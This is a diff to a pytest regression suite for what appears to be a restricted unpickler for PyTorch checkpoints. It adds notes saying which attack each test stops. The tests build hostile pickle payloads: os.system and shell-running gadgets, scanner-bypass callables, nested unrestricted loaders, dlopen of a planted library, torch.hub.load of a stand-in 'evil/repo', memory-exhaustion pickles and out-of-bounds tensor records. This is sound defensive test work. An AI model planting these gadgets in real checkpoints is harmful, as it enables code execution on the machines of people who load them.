@@ -12,8 +12,11 @@ legacy ``torch.save`` stream. The promises under test (README, ``unpickler.py``)
   no hang, memory bounded (crash and memory attacks run in a resource-limited child);
 * tensor views never read outside their storage.
 
-Every attack here once succeeded or was mishandled in review and is fixed; each test is a
-regression test (a new gap would be added as ``xfail(strict=True)`` with its reason).
+Each test is a regression test (a new gap would be added as ``xfail(strict=True)`` with its
+reason). Its first docstring line (or, in mixed tables, the comment above each case) says which
+attack it stops and where it was found: "hostile review of the unpickler, session 1" when the
+attack got through the reader as it was before that review (these tests fail against commit
+ccc0a09, the parent of fa74ed6), "designed up front" when it was already stopped, or for controls.
 """
 
 from __future__ import annotations
@@ -512,6 +515,7 @@ UNSAFE: list[tuple[str, Payload, set[str], str]] = [
                          [pytest.param(p, e, o, id=i) for i, p, e, o in UNSAFE])
 def test_dangerous_global_is_refused_and_named(marker: Path, payload: Payload,
                                                expected: set[str], opcode: str) -> None:
+    """Stops: a dangerous callable (os.system, eval, Popen...) reached through any opcode spelling of a global. Found: designed up front."""
     data = payload(shell(marker))
     assert opcode in opcode_names(data)  # the attack really exercises that opcode
     with pytest.raises(UnsafePickleError) as caught:
@@ -524,7 +528,10 @@ def test_dangerous_global_is_refused_and_named(marker: Path, payload: Payload,
 @pytest.mark.parametrize("code", [1, 0x1F0, 0x7FFFFFF0], ids=["EXT1", "EXT2", "EXT4"])
 def test_registered_extension_code_still_goes_through_find_class(marker: Path,
                                                                  code: int) -> None:
-    """The copyreg extension registry maps a code to (module, name): still vetted."""
+    """Stops: os.system reached through a copyreg EXT1/EXT2/EXT4 code instead of a named global. Found: designed up front.
+
+    The copyreg extension registry maps a code to (module, name): still vetted.
+    """
     op = pickle.EXT1 + bytes([code]) if code < 256 else (
         pickle.EXT2 + struct.pack("<H", code) if code < 65536
         else pickle.EXT4 + struct.pack("<i", code))
@@ -541,6 +548,7 @@ def test_registered_extension_code_still_goes_through_find_class(marker: Path,
 
 
 def test_extension_code_is_refused_on_every_load(marker: Path) -> None:
+    """Stops: an EXT code refused once, then served unvetted from the extension cache on a later load. Found: hostile review of the unpickler, session 1."""
     code = 0xF3
     copyreg.add_extension("os", "system", code)
     try:
@@ -555,6 +563,7 @@ def test_extension_code_is_refused_on_every_load(marker: Path) -> None:
 
 
 def test_extension_cache_filled_elsewhere_does_not_run_code(tmp_path: Path) -> None:
+    """Stops: an EXT code already cached by another pickle.loads in the process skipping find_class. Found: hostile review of the unpickler, session 1."""
     marker = tmp_path / "PWNED_ext"  # checked here, not at teardown: this attack works today
     payload = tmp_path / "payload.pkl"
     payload.write_bytes(pkl(pickle.EXT1 + b"\xf2", op_tuple(op_str(shell(marker))),
@@ -576,7 +585,10 @@ def test_extension_cache_filled_elsewhere_does_not_run_code(tmp_path: Path) -> N
 
 def test_dangerous_global_in_zip_checkpoint_is_refused(tmp_path: Path, marker: Path,
                                                        zip_template: bytes) -> None:
-    """Hidden one level down next to a real tensor, like a poisoned hparams entry."""
+    """Stops: posix.system injected into a real torch.save data.pkl beside its tensor. Found: designed up front (fickling injection class).
+
+    Hidden one level down next to a real tensor, like a poisoned hparams entry.
+    """
     hparams = op_dict((op_str("lr"), op_int(1)), (op_str("hook"), op_call(
         op_global("posix", "system"), op_str(shell(marker)))))
     path = write(tmp_path, rewrite_zip(zip_template, state_dict_pkl(("hparams", hparams))))
@@ -589,7 +601,10 @@ def test_dangerous_global_in_zip_checkpoint_is_refused(tmp_path: Path, marker: P
 
 def test_dangerous_global_inside_tensor_record_is_refused(tmp_path: Path, marker: Path,
                                                           zip_template: bytes) -> None:
-    """The backward-hooks slot of ``_rebuild_tensor_v2`` carries a payload."""
+    """Stops: os.system hidden in the backward-hooks argument of a tensor record. Found: designed up front (fickling injection class).
+
+    The backward-hooks slot of ``_rebuild_tensor_v2`` carries a payload.
+    """
     tensor = op_call(op_global("torch._utils", "_rebuild_tensor_v2"), op_storage_pid(),
                      op_int(0), op_tuple(op_int(16)), op_tuple(op_int(1)), pickle.NEWFALSE,
                      op_call(op_global("os", "system"), op_str(shell(marker))))
@@ -603,6 +618,7 @@ def test_dangerous_global_inside_tensor_record_is_refused(tmp_path: Path, marker
 def test_dangerous_global_in_any_legacy_pickle_is_refused(tmp_path: Path, marker: Path,
                                                           legacy_template: bytes,
                                                           part: str) -> None:
+    """Stops: a payload in any of the five pickles of a legacy stream (magic ... keys). Found: designed up front."""
     (magic, version, sys_info, _, _), _ = split_legacy(legacy_template)
     evil = op_call(op_global("posix", "system"), op_str(shell(marker)))
     parts = {
@@ -626,7 +642,10 @@ def test_dangerous_global_in_any_legacy_pickle_is_refused(tmp_path: Path, marker
 
 def test_legacy_module_source_record_with_dangerous_global(tmp_path: Path, marker: Path,
                                                            legacy_template: bytes) -> None:
-    """A pickled nn.Module's ``('module', cls, source)`` persistent id is never used."""
+    """Stops: os.system smuggled in as the class of a legacy ('module', cls, source) record. Found: designed up front.
+
+    A pickled nn.Module's ``('module', cls, source)`` persistent id is never used.
+    """
     obj = pkl(op_dict((op_str("m"), op_tuple(op_str("module"), op_global("os", "system"),
                                               op_str(shell(marker))) + pickle.BINPERSID)))
     path = write(tmp_path, legacy_stream(legacy_template, obj=obj, keys=pkl(pickle.EMPTY_LIST),
@@ -640,22 +659,29 @@ def test_legacy_module_source_record_with_dangerous_global(tmp_path: Path, marke
 EVIL = op_global("os", "system") + pickle.POP  # referenced, then dropped from the stack
 
 MASKED: list[Any] = [
+    # Stops: the global's refusal being masked by a later _codecs misuse error. Found: hostile review of the unpickler, session 1.
     pytest.param(pkl(EVIL, op_call(op_global("_codecs", "encode"), op_int(1))),
                  id="then CorruptCheckpointError"),
+    # Stops: the refusal being masked by an unsupported tensor record. Found: hostile review of the unpickler, session 1.
     pytest.param(pkl(EVIL, op_call(op_global("torch._utils", "_rebuild_tensor_v3"),
                                    *[pickle.NONE] * 7)),
                  id="then UnsupportedCheckpointError"),
+    # Stops: the refusal being masked by a malformed persistent id. Found: hostile review of the unpickler, session 1.
     pytest.param(pkl(EVIL, op_str("x"), pickle.BINPERSID),
                  id="then bad persistent id"),
+    # Stops: the refusal being masked by a 1 TiB length (MemoryError). Found: hostile review of the unpickler, session 1.
     pytest.param(pkl(EVIL, pickle.BINBYTES8 + struct.pack("<Q", 2**40)),
                  id="then MemoryError"),
+    # Stops: the refusal being masked by a missing memo entry. Found: designed up front.
     pytest.param(pkl(EVIL, pickle.GET + b"99\n"), id="then UnpicklingError"),
+    # Stops: the refusal being masked by a pickle cut off before STOP. Found: designed up front.
     pytest.param(P2 + EVIL, id="then EOF"),
 ]
 
 
 @pytest.mark.parametrize("data", MASKED)
 def test_dangerous_global_is_named_even_when_the_pickle_then_fails(data: bytes) -> None:
+    """Stops: a dangerous global reported as merely corrupt because the pickle fails after it. Found: hostile review of the unpickler, session 1."""
     with pytest.raises(UnsafePickleError) as caught:
         restricted_load(data)
     assert caught.value.globals_found == ["os.system"]
@@ -664,6 +690,7 @@ def test_dangerous_global_is_named_even_when_the_pickle_then_fails(data: bytes) 
 
 def test_dangerous_storage_type_in_persistent_id_is_named(tmp_path: Path,
                                                           zip_template: bytes) -> None:
+    """Stops: os.system as a persistent id's storage type reported as "unknown type", not unsafe. Found: hostile review of the unpickler, session 1."""
     pid = op_tuple(op_str("storage"), op_global("os", "system"), op_str("0"), op_str("cpu"),
                    op_int(16)) + pickle.BINPERSID
     path = write(tmp_path, rewrite_zip(zip_template, state_dict_pkl(tensor=op_tensor(pid))))
@@ -682,61 +709,83 @@ def _gadget(payload: Payload, name: str) -> Any:
 
 
 GADGETS = [
+    # Stops: pydoc.pipepager(text, cmd) running cmd through the shell. Found: hostile review of the unpickler, session 1.
     _gadget(lambda c: pkl(op_call(op_global("pydoc", "pipepager"), op_str("x"), op_str(c))),
             "pydoc.pipepager"),
+    # Stops: pydoc.locate importing any dotted name (os.system), then called. Found: hostile review of the unpickler, session 1.
     _gadget(lambda c: pkl(op_call(op_call(op_global("pydoc", "locate"), op_str("os.system")),
                                   op_str(c))), "pydoc.locate"),
+    # Stops: the C module twin of operator.methodcaller (only operator.* was denied). Found: hostile review of the unpickler, session 1.
     _gadget(lambda c: pkl(op_call(op_call(op_global("_operator", "methodcaller"),
                                           op_str("system"), op_str(c)),
                                   op_global("pydoc", "os"))), "_operator.methodcaller"),
+    # Stops: the C module twin of operator.attrgetter. Found: hostile review of the unpickler, session 1.
     _gadget(lambda c: pkl(op_call(op_call(op_call(op_global("_operator", "attrgetter"),
                                                   op_str("system")), op_global("pydoc", "os")),
                                   op_str(c))), "_operator.attrgetter"),
+    # Stops: the C module twin of functools.partial binding a shell command. Found: hostile review of the unpickler, session 1.
     _gadget(lambda c: pkl(op_call(op_call(op_global("_functools", "partial"),
                                           op_global("pydoc", "pipepager"), op_str("x"),
                                           op_str(c)))), "_functools.partial"),
+    # Stops: a dotted STACK_GLOBAL name walking module attributes (pathlib -> os.system). Found: hostile review of the unpickler, session 1.
     _gadget(lambda c: pkl(op_call(op_stack_global("pathlib", "os.system"), op_str(c)),
                           proto=P4), "pathlib.os.system"),
+    # Stops: a dotted name reaching object.__subclasses__ (classic sandbox escape). Found: hostile review of the unpickler, session 1.
     _gadget(lambda c: pkl(op_call(op_stack_global("builtins", "object.__subclasses__")),
                           proto=P4), "builtins.object.__subclasses__"),
+    # Stops: a dotted name reaching torch.load (nested unrestricted unpickling). Found: hostile review of the unpickler, session 1.
     _gadget(lambda c: pkl(op_call(op_stack_global("torch", "serialization.load"),
                                   op_str("/dev/null")), proto=P4), "torch.serialization.load"),
+    # Stops: numpy's runstring exec-ing a code string. Found: hostile review of the unpickler, session 1.
     _gadget(lambda c: pkl(op_call(op_global("numpy.testing._private.utils", "runstring"),
                                   op_str(f"__import__('os').system({c!r})"), op_dict())),
             "numpy.testing._private.utils.runstring"),
+    # Stops: torch's execWrapper exec-ing a code string (a public fickling bypass). Found: hostile review of the unpickler, session 1.
     _gadget(lambda c: pkl(op_call(op_global("torch.jit.unsupported_tensor_ops", "execWrapper"),
                                   op_str(f"__import__('os').system({c!r})"), op_dict(),
                                   op_dict())), "torch.jit.unsupported_tensor_ops.execWrapper"),
+    # Stops: torch.utils.collect_env.run running a shell command. Found: hostile review of the unpickler, session 1.
     _gadget(lambda c: pkl(op_call(op_global("torch.utils.collect_env", "run"), op_str(c))),
             "torch.utils.collect_env.run"),
+    # Stops: torch.storage._load_from_bytes unpickling embedded bytes unrestricted. Found: hostile review of the unpickler, session 1.
     _gadget(lambda c: pkl(op_call(op_global("torch.storage", "_load_from_bytes"), op_bytes(
         pkl(op_call(op_global("posix", "system"), op_str(c)))))),
             "torch.storage._load_from_bytes"),
+    # Stops: numpy.load with allow_pickle=True (nested unpickling). Found: hostile review of the unpickler, session 1.
     _gadget(lambda c: pkl(op_call(op_global("numpy.lib._npyio_impl", "load"),
                                   op_str("/dev/null"), pickle.NONE, pickle.NEWTRUE)),
             "numpy.lib._npyio_impl.load"),
+    # Stops: numpy's read_array with allow_pickle=True (nested unpickling). Found: hostile review of the unpickler, session 1.
     _gadget(lambda c: pkl(op_call(op_global("numpy.lib.format", "read_array"),
                                   op_str("/dev/null"), pickle.NEWTRUE)),
             "numpy.lib.format.read_array"),
+    # Stops: codecs.open creating/truncating an arbitrary file. Found: hostile review of the unpickler, session 1.
     _gadget(lambda c: pkl(op_call(op_global("codecs", "open"), op_str(c.split()[-1]),
                                   op_str("w"))), "codecs.open"),
+    # Stops: numpy.memmap creating/overwriting an arbitrary file (mode w+). Found: hostile review of the unpickler, session 1.
     _gadget(lambda c: pkl(op_call(op_global("numpy", "memmap"), op_str(c.split()[-1]),
                                   op_str("uint8"), op_str("w+"), op_int(0),
                                   op_tuple(op_int(1)))), "numpy.memmap"),
+    # Stops: the raw process spawner under subprocess. Found: hostile review of the unpickler, session 1.
     _gadget(lambda c: pkl(op_global("_posixsubprocess", "fork_exec")),
             "_posixsubprocess.fork_exec"),
+    # Stops: _ctypes.dlopen loading an arbitrary shared library. Found: hostile review of the unpickler, session 1.
     _gadget(lambda c: pkl(op_call(op_global("_ctypes", "dlopen"), op_str("/tmp/evil.so"))),
             "_ctypes.dlopen"),
     # Controls: already refused today.
+    # Stops: cProfile.run exec-ing a code string. Found: designed up front.
     _gadget(lambda c: pkl(op_call(op_global("cProfile", "run"),
                                   op_str(f"__import__('os').system({c!r})"))),
             "cProfile.run"),
+    # Stops: timeit.timeit exec-ing a code string. Found: designed up front.
     _gadget(lambda c: pkl(op_call(op_global("timeit", "timeit"),
                                   op_str(f"__import__('os').system({c!r})"))),
             "timeit.timeit"),
+    # Stops: numpy.ctypeslib.load_library loading a shared library. Found: designed up front.
     _gadget(lambda c: pkl(op_call(op_global("numpy.ctypeslib", "load_library"),
                                   op_str("evil"), op_str("/tmp"))),
             "numpy.ctypeslib.load_library"),
+    # Stops: torch.hub.load fetching and running a repository's hubconf. Found: designed up front.
     _gadget(lambda c: pkl(op_call(op_global("torch.hub", "load"), op_str("evil/repo"),
                                   op_str("model"))), "torch.hub.load"),
 ]
@@ -745,6 +794,7 @@ GADGETS = [
 @pytest.mark.parametrize(("payload", "name"), GADGETS)
 def test_known_code_execution_gadget_is_refused(marker: Path, payload: Payload,
                                                 name: str) -> None:
+    """Stops: code-running gadgets outside the deny-list (picklescan/modelscan bypass class). Found: hostile review of the unpickler, session 1."""
     with pytest.raises(UnsafePickleError) as caught:
         restricted_load(payload(shell(marker)))
     assert name in caught.value.globals_found
@@ -752,7 +802,10 @@ def test_known_code_execution_gadget_is_refused(marker: Path, payload: Payload,
 
 
 def test_unknown_harmless_globals_stay_inert_data(marker: Path) -> None:
-    """Not refused, not imported, not called: kept as data for the metadata reader."""
+    """Stops: an unknown global (argparse.Namespace, PosixPath) being imported or called. Found: designed up front.
+
+    Not refused, not imported, not called: kept as data for the metadata reader.
+    """
     data = pkl(op_dict(
         (op_str("args"), op_call(op_global("argparse", "Namespace")) + op_build(
             op_dict((op_str("lr"), op_int(3)), (op_str("cmd"), op_str(shell(marker)))))),
@@ -767,6 +820,7 @@ def test_unknown_harmless_globals_stay_inert_data(marker: Path) -> None:
 
 
 def test_nested_pickle_inside_bytes_is_data_not_loaded(marker: Path) -> None:
+    """Stops: a second-stage pickle inside a bytes value being unpickled too. Found: designed up front."""
     inner = pkl(op_call(op_global("os", "system"), op_str(shell(marker))))
     obj, _ = restricted_load(pkl(op_dict((op_str("blob"), op_bytes(inner)))))
     assert obj == {"blob": inner}
@@ -854,13 +908,17 @@ MALFORMED: list[Any] = [
 
 @pytest.mark.parametrize("data", MALFORMED)
 def test_malformed_pickle_is_corrupt(data: bytes) -> None:
+    """Stops: malformed opcodes, lying lengths and bad numpy states escaping as non-CkptError. Found: designed up front."""
     # Corrupt, or refused as unsupported (e.g. numpy object/structured dtypes): never loaded.
     with pytest.raises((CorruptCheckpointError, UnsupportedCheckpointError)):
         restricted_load(data)
 
 
 def test_deeply_nested_lists_load_or_are_corrupt() -> None:
-    """The unpickler is a stack machine: depth alone costs no Python recursion."""
+    """Stops: 200k nested lists crashing the loader (RecursionError or C stack overflow). Found: designed up front.
+
+    The unpickler is a stack machine: depth alone costs no Python recursion.
+    """
     depth = 200_000
     data = P2 + pickle.EMPTY_LIST * (depth + 1) + pickle.APPEND * depth + pickle.STOP
     try:
@@ -875,6 +933,7 @@ def test_deeply_nested_lists_load_or_are_corrupt() -> None:
     pytest.param("frozenset"),
 ])
 def test_deep_tuple_hashing_does_not_crash(tmp_path: Path, container: str) -> None:
+    """Stops: a 1M-deep nested tuple segfaulting the process when hashed (dict key, frozenset). Found: hostile review of the unpickler, session 1."""
     nested = pickle.EMPTY_TUPLE + pickle.TUPLE1 * 1_000_000
     if container == "dict key":
         data = pkl(pickle.EMPTY_DICT, nested, pickle.NONE, pickle.SETITEM)
@@ -891,6 +950,7 @@ def test_deep_tuple_hashing_does_not_crash(tmp_path: Path, container: str) -> No
 
 def test_build_cannot_give_a_tensor_a_negative_stride(tmp_path: Path,
                                                       zip_template: bytes) -> None:
+    """Stops: BUILD giving a tensor record a negative stride (out-of-bounds read before its storage). Found: hostile review of the unpickler, session 1."""
     tensor = op_tensor(shape=(2,), stride=(1,)) + op_build(op_dict(
         (op_str("stride"), op_tuple(op_int(-16)))))
     path = write(tmp_path, rewrite_zip(zip_template, state_dict_pkl(tensor=tensor)))
@@ -906,6 +966,7 @@ def test_build_cannot_give_a_tensor_a_negative_stride(tmp_path: Path,
 
 def test_build_cannot_give_a_tensor_a_negative_offset(tmp_path: Path,
                                                       zip_template: bytes) -> None:
+    """Stops: BUILD giving a tensor record a negative offset (out-of-bounds read before its storage). Found: hostile review of the unpickler, session 1."""
     tensor = op_tensor() + op_build(op_dict((op_str("offset"), op_int(-4))))
     path = write(tmp_path, rewrite_zip(zip_template, state_dict_pkl(tensor=tensor)))
     with pytest.raises(CorruptCheckpointError):
@@ -915,6 +976,7 @@ def test_build_cannot_give_a_tensor_a_negative_offset(tmp_path: Path,
 
 def test_build_mutated_tensor_does_not_crash_the_reader(tmp_path: Path,
                                                         zip_template: bytes) -> None:
+    """Stops: BUILD giving a tensor a -2**40 stride that segfaulted the reader at read time. Found: hostile review of the unpickler, session 1."""
     tensor = op_tensor(shape=(2,), stride=(1,)) + op_build(op_dict(
         (op_str("stride"), op_tuple(op_int(-(2**40))))))
     path = write(tmp_path, rewrite_zip(zip_template, state_dict_pkl(tensor=tensor)))
@@ -932,25 +994,33 @@ def test_build_mutated_tensor_does_not_crash_the_reader(tmp_path: Path,
 
 
 TAMPERED: list[Any] = [
+    # Stops: BUILD swapping a tensor record's dtype. Found: hostile review of the unpickler, session 1.
     pytest.param(op_tensor() + op_build(op_dict((op_str("dtype"), op_str("evil")))),
                  id="tensor dtype"),
+    # Stops: BUILD giving a tensor record a negative shape. Found: hostile review of the unpickler, session 1.
     pytest.param(op_tensor() + op_build(op_dict((op_str("shape"), op_tuple(op_int(-4))))),
                  id="tensor shape negative"),
+    # Stops: BUILD giving a tensor record a str shape. Found: hostile review of the unpickler, session 1.
     pytest.param(op_tensor() + op_build(op_dict((op_str("shape"), op_str("abc")))),
                  id="tensor shape str"),
+    # Stops: BUILD swapping a tensor record's storage. Found: hostile review of the unpickler, session 1.
     pytest.param(op_tensor() + op_build(op_dict((op_str("storage"), op_str("x")))),
                  id="tensor storage swapped"),
+    # Stops: BUILD giving a storage reference a negative numel. Found: hostile review of the unpickler, session 1.
     pytest.param(op_tensor(op_storage_pid() + op_build(op_dict((op_str("numel"),
                                                                 op_int(-16))))),
                  id="storage ref numel negative"),
+    # Stops: BUILD swapping a storage reference's dtype. Found: hostile review of the unpickler, session 1.
     pytest.param(op_tensor(op_storage_pid() + op_build(op_dict((op_str("dtype"),
                                                                 op_str("evil"))))),
                  id="storage ref dtype"),
+    # Stops: BUILD swapping the dtype of a storage type. Found: hostile review of the unpickler, session 1.
     pytest.param(op_tensor(op_tuple(
         op_str("storage"), op_global("torch", "FloatStorage")
         + op_build(op_dict((op_str("dtype"), op_str("evil")))),
         op_str("0"), op_str("cpu"), op_int(16)) + pickle.BINPERSID),
                  id="storage type dtype"),
+    # Stops: BUILD pointing a storage reference at ../../x. Found: designed up front.
     pytest.param(op_tensor(op_storage_pid() + op_build(op_dict((op_str("key"),
                                                                 op_str("../../x"))))),
                  id="storage ref key traversal"),
@@ -960,6 +1030,7 @@ TAMPERED: list[Any] = [
 @pytest.mark.parametrize("tensor", TAMPERED)
 def test_build_on_ckptctl_records_is_refused_or_harmless(tmp_path: Path, zip_template: bytes,
                                                         tensor: bytes) -> None:
+    """Stops: BUILD tampering with ckptctl's own tensor/storage records (dtype, shape, numel, key). Found: hostile review of the unpickler, session 1."""
     path = write(tmp_path, rewrite_zip(zip_template, state_dict_pkl(tensor=tensor)))
     with pytest.raises(CkptError):
         read_tensor(open_torch(path))
@@ -968,6 +1039,7 @@ def test_build_on_ckptctl_records_is_refused_or_harmless(tmp_path: Path, zip_tem
 
 def test_build_cannot_modify_vetted_rebuild_functions(tmp_path: Path,
                                                       zip_template: bytes) -> None:
+    """Stops: BUILD on a vetted callable (_rebuild_tensor_v2, _codecs.encode) changing it for later loads. Found: hostile review of the unpickler, session 1."""
     rebuild = unpickler_module._rebuild_tensor_v2
     encode = unpickler_module._codecs_encode
     saved = (rebuild.__defaults__, dict(rebuild.__dict__), dict(encode.__dict__))
@@ -991,6 +1063,7 @@ def test_build_cannot_modify_vetted_rebuild_functions(tmp_path: Path,
 
 
 def test_copyreg_reconstructor_never_calls_its_base(marker: Path) -> None:
+    """Stops: copyreg._reconstructor calling its base type on attacker-chosen state. Found: designed up front."""
     data = pkl(op_call(op_global("copy_reg", "_reconstructor"), op_global("argparse", "Namespace"),
                        op_global("builtins", "dict"), op_dict((op_str("cmd"),
                                                                op_str(shell(marker))))))
@@ -999,6 +1072,7 @@ def test_copyreg_reconstructor_never_calls_its_base(marker: Path) -> None:
 
 
 def test_rebuild_from_type_v2_only_calls_vetted_functions() -> None:
+    """Stops: _rebuild_from_type_v2 calling an arbitrary func (list(range(10**12))). Found: designed up front."""
     data = pkl(op_call(op_global("torch._tensor", "_rebuild_from_type_v2"),
                        op_global("builtins", "list"), op_global("torch.nn", "Parameter"),
                        op_tuple(op_call(op_global("builtins", "range"), op_int(10**12))),
@@ -1033,6 +1107,7 @@ def _array_of(dtype: bytes, raw: bytes, count: int) -> bytes:
         id="object dtype with flags cleared"),
 ])
 def test_numpy_dtype_state_cannot_forge_object_pointers(tmp_path: Path, data: bytes) -> None:
+    """Stops: a forged numpy dtype state turning raw bytes into object pointers (segfault/memory read). Found: hostile review of the unpickler, session 1."""
     rc, result = load_in_child(tmp_path, data)
     assert rc == 0, f"child died with {rc}: {result}"
     assert result["outcome"] in {"CorruptCheckpointError", "UnsupportedCheckpointError"}
@@ -1040,6 +1115,7 @@ def test_numpy_dtype_state_cannot_forge_object_pointers(tmp_path: Path, data: by
 
 
 def test_numpy_dtype_field_offset_cannot_read_out_of_bounds(tmp_path: Path) -> None:
+    """Stops: a structured dtype field at offset 10**8 reading far outside an 8-byte scalar. Found: hostile review of the unpickler, session 1."""
     evil = np_dtype("V8") + op_build(op_tuple(
         op_int(3), op_str("|"), pickle.NONE, op_tuple(op_str("a")),
         op_dict((op_str("a"), op_tuple(np_dtype("f8"), op_int(10**8)))),
@@ -1061,7 +1137,10 @@ def test_numpy_dtype_field_offset_cannot_read_out_of_bounds(tmp_path: Path) -> N
 
 
 def test_numpy_builtin_dtype_singleton_cannot_be_mutated(tmp_path: Path) -> None:
-    """``numpy.dtype('f8', False, False)`` is the process-wide float64: BUILD must not touch it."""
+    """Stops: BUILD on numpy's shared float64 dtype corrupting every float64 in the process. Found: designed up front.
+
+    ``numpy.dtype('f8', False, False)`` is the process-wide float64: BUILD must not touch it.
+    """
     payload = tmp_path / "payload.pkl"
     payload.write_bytes(pkl(op_call(op_global("numpy", "dtype"), op_str("f8"), pickle.NEWFALSE,
                                     pickle.NEWFALSE),
@@ -1082,7 +1161,10 @@ def test_numpy_builtin_dtype_singleton_cannot_be_mutated(tmp_path: Path) -> None
 
 
 def test_numpy_plain_array_round_trips() -> None:
-    """Control: a legitimate pickled float array is still data."""
+    """Stops: a false refusal of a legitimate pickled float64 numpy array (control). Found: designed up front.
+
+    Control: a legitimate pickled float array is still data.
+    """
     data = pkl(_array_of(np_dtype("<f8"), struct.pack("<2d", 1.5, -2.0), 2))
     obj, _ = restricted_load(data)
     assert obj.array.tolist() == [1.5, -2.0]  # a checked record holding the array
@@ -1092,25 +1174,33 @@ def test_numpy_plain_array_round_trips() -> None:
 
 MIB = 1 << 20
 MEMORY: list[Any] = [
+    # Stops: a memo index of 2**24 growing the memo table. Found: hostile review of the unpickler, session 1.
     pytest.param(pkl(pickle.NONE, pickle.LONG_BINPUT + struct.pack("<I", 2**24)),
         id="LONG_BINPUT memo index 2**24"),
+    # Stops: bytearray(2**28): 256 MiB from a few bytes. Found: hostile review of the unpickler, session 1.
     pytest.param(pkl(op_call(op_global("builtins", "bytearray"), op_int(2**28))),
         id="bytearray(2**28)"),
+    # Stops: list(range(2**22)) materialised. Found: hostile review of the unpickler, session 1.
     pytest.param(pkl(op_call(op_global("builtins", "list"), op_call(
         op_global("builtins", "range"), op_int(2**22)))),
         id="list(range(2**22))"),
+    # Stops: str() of a 32 MiB bytearray (a 4x larger repr). Found: hostile review of the unpickler, session 1.
     pytest.param(pkl(op_call(op_global("builtins", "str"), op_call(
         op_global("builtins", "bytearray"), op_int(2**25)))),
         id="str(bytearray(2**25))"),
+    # Stops: torch.device() given 32 MiB of bytes. Found: hostile review of the unpickler, session 1.
     pytest.param(pkl(op_call(op_global("torch", "device"), op_call(
         op_global("builtins", "bytes"), op_int(2**25)))),
         id="torch.device(bytes(2**25))"),
+    # Stops: a 2**24-element numpy object array via NEWOBJ. Found: hostile review of the unpickler, session 1.
     pytest.param(pkl(op_global("numpy", "ndarray"), op_tuple(op_tuple(op_int(2**24)),
                                                              op_str("O")), pickle.NEWOBJ),
                  id="numpy object array 2**24"),
+    # Stops: numpy _reconstruct of an 8 TiB array. Found: designed up front.
     pytest.param(pkl(op_call(op_global("numpy.core.multiarray", "_reconstruct"),
                              op_global("numpy", "ndarray"), op_tuple(op_int(2**40)),
                              op_str("f8"))), id="numpy _reconstruct 8 TiB"),
+    # Stops: a BINBYTES8 length of 8 GiB read eagerly. Found: designed up front.
     pytest.param(P4 + pickle.BINBYTES8 + struct.pack("<Q", 2**33) + b"ab" + pickle.STOP,
                  id="BINBYTES8 claims 8 GiB"),
 ]
@@ -1118,6 +1208,7 @@ MEMORY: list[Any] = [
 
 @pytest.mark.parametrize("data", MEMORY)
 def test_small_pickle_cannot_claim_much_memory(tmp_path: Path, data: bytes) -> None:
+    """Stops: a pickle under 100 bytes making the loader allocate hundreds of MiB. Found: hostile review of the unpickler, session 1."""
     assert len(data) < 100
     rc, result = load_in_child(tmp_path, data)
     assert rc == 0, result
@@ -1125,7 +1216,9 @@ def test_small_pickle_cannot_claim_much_memory(tmp_path: Path, data: bytes) -> N
 
 
 
+@pytest.mark.slow
 def test_unknown_globals_are_not_retained_after_loading(tmp_path: Path) -> None:
+    """Stops: 10k unknown globals leaving ~23 MiB retained in a process-wide cache after loading. Found: hostile review of the unpickler, session 1."""
     payload = tmp_path / "payload.pkl"
     payload.write_bytes(pkl(*[op_global("pkg", f"n{i}") + pickle.POP for i in range(10_000)],
                             pickle.NONE))
@@ -1151,16 +1244,18 @@ def test_unknown_globals_are_not_retained_after_loading(tmp_path: Path) -> None:
     ({"offset": -1}, CorruptCheckpointError),
     ({"shape": (1,) * 65, "stride": (1,) * 65}, CorruptCheckpointError),
     ({"shape": (2, 2), "stride": (1,)}, CorruptCheckpointError),
-])
+], ids=["negative dim", "negative stride", "negative offset", "65 dims", "stride rank mismatch"])
 def test_bad_tensor_record_is_refused_while_loading(tmp_path: Path, zip_template: bytes,
                                                     kwargs: dict[str, Any],
                                                     error: type[CkptError]) -> None:
+    """Stops: tensor records with negative dims/strides/offsets, >64 dims or mismatched ranks. Found: designed up front."""
     path = write(tmp_path, rewrite_zip(zip_template, state_dict_pkl(tensor=op_tensor(**kwargs))))
     with pytest.raises(error):
         open_torch(path)
 
 
 def test_bool_sizes_are_refused(tmp_path: Path, zip_template: bytes) -> None:
+    """Stops: booleans as a tensor's size/stride (True == 1) slipping past the integer checks. Found: designed up front."""
     tensor = op_call(op_global("torch._utils", "_rebuild_tensor_v2"), op_storage_pid(),
                      op_int(0), op_tuple(pickle.NEWTRUE), op_tuple(pickle.NEWTRUE),
                      pickle.NEWFALSE, op_dict())
@@ -1170,6 +1265,7 @@ def test_bool_sizes_are_refused(tmp_path: Path, zip_template: bytes) -> None:
 
 
 def test_unknown_v3_dtype_is_unsupported(tmp_path: Path, zip_template: bytes) -> None:
+    """Stops: a _rebuild_tensor_v3 record with an exotic dtype (quint4x2) read as another dtype. Found: designed up front."""
     tensor = op_call(op_global("torch._utils", "_rebuild_tensor_v3"),
                      op_storage_pid(storage="UntypedStorage", numel=64), op_int(0),
                      op_tuple(op_int(16)), op_tuple(op_int(1)), pickle.NEWFALSE, op_dict(),
@@ -1180,20 +1276,33 @@ def test_unknown_v3_dtype_is_unsupported(tmp_path: Path, zip_template: bytes) ->
 
 
 READ_ERRORS: list[Any] = [
+    # Stops: a stride of 2**70 overflowing the byte range. Found: designed up front.
     pytest.param({"shape": (2,), "stride": (2**70,)}, id="stride 2**70"),
+    # Stops: an offset of 2**70. Found: designed up front.
     pytest.param({"offset": 2**70, "shape": (1,), "stride": (1,)}, id="offset 2**70"),
+    # Stops: a one-element view starting at the storage's end. Found: designed up front.
     pytest.param({"offset": 16, "shape": (1,), "stride": (1,)}, id="offset at the end"),
+    # Stops: an empty view placed past the storage's end. Found: designed up front.
     pytest.param({"offset": 17, "shape": (0,), "stride": (1,)}, id="empty view past the end"),
+    # Stops: a view one element longer than its storage. Found: designed up front.
     pytest.param({"shape": (17,), "stride": (1,)}, id="one element too many"),
+    # Stops: a 2-D view whose last rows run past the storage. Found: designed up front.
     pytest.param({"shape": (4, 4), "stride": (5, 1)}, id="rows past the end"),
+    # Stops: a storage numel larger than its record's bytes. Found: designed up front.
     pytest.param({"numel": 2**62}, id="storage numel beyond its record"),
+    # Stops: a view and storage both claiming 2**62 elements. Found: designed up front.
     pytest.param({"numel": 2**62, "shape": (2**62,), "stride": (1,)},
                  id="view and storage both huge"),
+    # Stops: a shape whose numel wraps to 0 in int64 (2**32 x 2**32). Found: hostile review of the unpickler, session 1.
     pytest.param({"shape": (2**32, 2**32), "stride": (0, 0)}, id="numel wraps to 0"),
